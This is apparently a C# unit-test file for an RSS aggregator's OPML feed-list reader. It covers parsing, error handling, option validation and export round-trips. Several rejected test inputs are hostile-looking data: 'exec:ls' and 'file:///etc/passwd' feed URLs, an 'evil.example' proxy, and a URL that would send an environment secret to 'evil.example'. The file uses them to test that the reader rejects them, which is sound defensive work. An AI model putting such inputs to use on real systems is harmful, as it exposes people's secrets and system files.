using System.Text;
using Aggregator.Feeds;
using Aggregator.Pipeline.Ports;
using Aggregator.Pipeline.Subscribing;
using CsCheck;

namespace Aggregator.Pipeline.Tests.Subscribing;

public class OpmlListTests
{
    private static FeedList Read(string text) => ListTexts.Read(ListTexts.File("x.opml", text));

    private static FeedList Body(string outlines, string attributes = "") => Read($"<opml version=\"2.0\"{attributes}><head/><body>\n{outlines}\n</body></opml>");

    private static FeedList Option(string option) =>
        Body($"<outline text=\"A\" xmlUrl=\"https://example.org/a\" o:{option}/>", $" xmlns:o=\"{OpmlOptions.Namespace}\"");

    [Fact]
    public void Folders_are_groups_and_names_are_titles()
    {
        var list = Body("""
            <outline text="World"><outline text="Sea  and
              land"><outline type="rss" text="t" title="The &amp; title" xmlUrl=" https://example.org/a?x=1&amp;y=2 " category="news,/Boston/Weather, sea"/></outline></outline>
            <outline text="https://example.org/b" xmlUrl="https://example.org/b"/>
            """);
        Assert.Equal("", ListTexts.Shown(list));
        Assert.Equal(
            [("https://example.org/a?x=1&y=2", "The & title", "World/Sea and land", "news sea"), ("https://example.org/b", null, null, "")],
            list.Feeds.Select(f => (f.Url, f.Title, f.Group, string.Join(' ', f.Tags))));
        Assert.Equal("x.opml:4", list.Feeds[1].Place);
    }

    [Theory]
    [InlineData("", "the file is empty")]
    [InlineData("<rss/>", "not OPML")]
    [InlineData("https://example.org/a", "not OPML")]
    [InlineData("<opml><body><outline xmlUrl=\"https://example.org/a\"/>", "ends before")]
    [InlineData("<opml><body><outline xmlUrl=\"https://example.org/a\"/><outline xmlUrl=\"https://exam", "ends before")]
    public void A_file_that_is_no_whole_list_is_an_error(string text, string says)
    {
        var list = Read(text);
        Assert.Contains(says, Assert.Single(list.Problems).Message, StringComparison.Ordinal);
        Assert.True(list.HasErrors);
    }

    [Fact]
    public void A_bad_entry_is_a_warning_and_left_out()
    {
        var list = Body("<outline xmlUrl=\"exec:ls\"/>\n<outline xmlUrl=\"https://example.org/a\"/>\n<outline xmlUrl=\"file:///etc/passwd\"/>\n<outline text=\"no feed\"/>");
        Assert.Equal("https://example.org/a", Assert.Single(list.Feeds).Url);
        Assert.Equal([(2, false), (4, false)], list.Problems.Select(p => (p.Line, p.IsError)));
    }

    [Fact]
    public void A_list_that_is_not_well_formed_is_read_with_one_warning()
    {
        var list = Body("<outline text=\"Q & A\" xmlUrl=\"https://example.org/a?x=1&y=2\"/>");
        Assert.Equal("https://example.org/a?x=1&y=2", Assert.Single(list.Feeds).Url);
        Assert.Contains("not well-formed", Assert.Single(list.Problems).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Another_encoding_is_read_as_it_says()
    {
        var bytes = Encoding.Latin1.GetBytes("<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><opml><body><outline text=\"Caf\u00E9\" xmlUrl=\"https://example.org/a\"/></body></opml>");
        Assert.Equal("Caf\u00E9", ListTexts.Only(FeedListReader.Read([new ListFile("x.opml", "/", bytes)], new ListSettings())).Title);
    }

    [Theory]
    [InlineData("every=\"hourly\"", "is no interval")]
    [InlineData("every=\"1m\"", "too often")]
    [InlineData("enabled=\"yes\"", "true or false")]
    [InlineData("allowPrivateNetwork=\"true\"", "counts only in feeds.json")]
    [InlineData("file=\"x.xml\"", "counts only in feeds.json")]
    [InlineData("auth=\"x\"", "counts only in feeds.json")]
    [InlineData("headers=\"x\"", "counts only in feeds.json")]
    [InlineData("proxy=\"http://evil.example:1\"", "counts only in feeds.json")]
    [InlineData("ignoreTls=\"true\"", "counts only in feeds.json")]
    [InlineData("userAgent=\"a ${env:KEY}\"", "holds no secret")]
    [InlineData("schedule=\"x\"", "not in effect")]
    [InlineData("evry=\"1h\"", "did you mean every?")]
    public void A_bad_option_is_a_warning_and_has_no_effect(string option, string says)
    {
        var list = Option(option);
        var feed = Assert.Single(list.Feeds);
        Assert.Equal((null, true, false, null), (feed.Every, feed.Enabled, feed.AllowPrivateNetwork, feed.FilePath));
        Assert.Equal((null, null, null, false), (feed.UserAgent, feed.Auth, feed.Proxy, feed.IgnoreTls));
        Assert.Empty(feed.Headers);
        var problem = Assert.Single(list.Problems);
        Assert.False(problem.IsError);
        Assert.Contains(says, problem.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Options_of_other_programs_are_nothing_to_us() =>
        Assert.Empty(Body("<outline xmlUrl=\"https://example.org/a\" fr:every=\"x\" every=\"y\"/>", " xmlns:fr=\"https://freshrss.org/opml\"").Problems);

    [Fact]
    public void Feeds_json_counts_before_opml_and_its_groups_hold_there_too()
    {
        var list = ListTexts.Read(
            ListTexts.File("a.opml", "<opml><body><outline text=\"Sea\"><outline xmlUrl=\"http://10.0.0.1/a\"/><outline xmlUrl=\"https://example.org/b\"/></outline></body></opml>"),
            ListTexts.File("b.feeds.txt", "https://example.org/b"),
            ListTexts.File("feeds.json", """{ "groups": [ { "name": "Sea", "every": "2h", "allowPrivateNetwork": true, "feeds": [] } ], "feeds": [] }"""));
        Assert.Equal([("http://10.0.0.1/a", "Sea", false), ("https://example.org/b", "Sea", false)], list.Feeds.Select(f => (f.Url, f.Group!, f.AllowPrivateNetwork)));
        Assert.All(list.Feeds, f => Assert.Equal(TimeSpan.FromHours(2), f.Every));
        Assert.Equal("b.feeds.txt", Assert.Single(list.Problems).File);
    }

    // Else whoever writes a list that others take over could ask his own server for their secrets.
    [Fact]
    public void An_address_that_names_a_secret_is_left_out()
    {
        var list = ListTexts.Read(
            ListTexts.File("a.opml", "<opml><body><outline xmlUrl=\"https://evil.example/?k=${env:KEY}\"/></body></opml>"),
            ListTexts.File("b.feeds.txt", "https://evil.example/?k=${env:KEY}"));
        Assert.Empty(list.Feeds);
        Assert.Equal(2, list.Problems.Count);
        Assert.All(list.Problems, p => Assert.Contains("counts only in feeds.json", p.Message, StringComparison.Ordinal));
    }

    [Fact]
    public void What_carries_a_secret_or_lowers_a_wall_does_not_flow_into_other_lists()
    {
        var list = ListTexts.Read(
            ListTexts.File("a.opml", "<opml><body><outline text=\"Sea\"><outline xmlUrl=\"https://example.org/a\"/></outline></body></opml>"),
            ListTexts.File("b.feeds.txt", "https://example.org/b"),
            ListTexts.File("feeds.json", """
                { "defaults": { "headers": { "X-A": "1" }, "proxy": "http://proxy.example:1", "userAgent": "Other/1.0" },
                  "groups": [ { "name": "Sea", "auth": { "type": "bearer", "secret": "env:A" }, "ignoreTls": true, "feeds": ["https://example.org/c"] } ] }
                """));
        var own = list.Feeds[0];
        Assert.Equal((new FeedAuth(AuthKind.Bearer, "env:A"), "http://proxy.example:1", true, "Other/1.0"), (own.Auth, own.Proxy, own.IgnoreTls, own.UserAgent));
        Assert.Equal([new RequestHeader("X-A", "1")], own.Headers);
        foreach (var feed in list.Feeds.Skip(1))
        {
            Assert.Equal((null, null, false, "Other/1.0"), (feed.Auth, feed.Proxy, feed.IgnoreTls, feed.UserAgent));
            Assert.Empty(feed.Headers);
        }
    }

    // Whatever a list of network feeds says, it says again after a way through OPML.
    [Fact]
    public void What_is_exported_as_opml_reads_back_to_the_same_feeds()
    {
        ListExportTests.Feed.List[0, 8].Sample(list =>
        {
            var feeds = list.Select((f, i) => f with { Url = $"https://example.org/{i}?x=1&y=<\"'>", FilePath = null, AllowPrivateNetwork = false, Headers = [], Auth = null, Proxy = null, IgnoreTls = false }).ToList();
            using var stream = new MemoryStream();
            ListExport.Opml(feeds, "Feeds").Write(stream);
            var read = FeedListReader.Read([new ListFile("x.opml", "/", stream.ToArray())], new ListSettings());
            Assert.Equal("", ListTexts.Shown(read));
            Assert.True(ListDiff.Between(feeds, read.Feeds).IsEmpty);
            Assert.Equal(feeds.Count, read.Feeds.Count);
        });
    }

    [Fact]
    public void What_counts_only_in_feeds_json_is_not_exported()
    {
        var outlines = ListExport.Opml(
            [new Subscription { Url = "file:x.xml", FilePath = "/x.xml" }, new Subscription { Url = "http://10.0.0.1/a", AllowPrivateNetwork = true }], "Feeds").Outlines;
        Assert.Empty(Assert.Single(outlines).Attributes);
    }

    [Fact]
    public void A_list_cut_anywhere_gives_no_feed_and_a_sentence()
    {
        const string whole = "<opml version=\"2.0\"><body><outline text=\"A\"><outline text=\"a\" xmlUrl=\"https://example.org/a\"/></outline></body></opml>";
        for (var length = 0; length < whole.Length; length++)
        {
            var list = Read(whole[..length]);
            Assert.True(list.HasErrors, whole[..length]);
            Assert.Empty(list.Feeds);
        }

        Assert.Single(Read(whole).Feeds);
    }
}
